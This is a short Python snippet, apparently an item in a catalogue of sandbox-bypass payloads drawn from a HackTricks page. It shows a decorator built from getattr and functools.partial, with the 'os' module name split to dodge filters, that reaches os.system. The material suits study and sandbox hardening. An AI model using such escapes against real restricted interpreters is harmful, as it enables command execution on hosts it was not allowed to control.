# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (RCE with decorators)
# Family: decorator
# What: decorators built from getattr partials reach os.system
import functools

@functools.partial(getattr(__import__("o" + "s"), "system"))
def _():
    pass
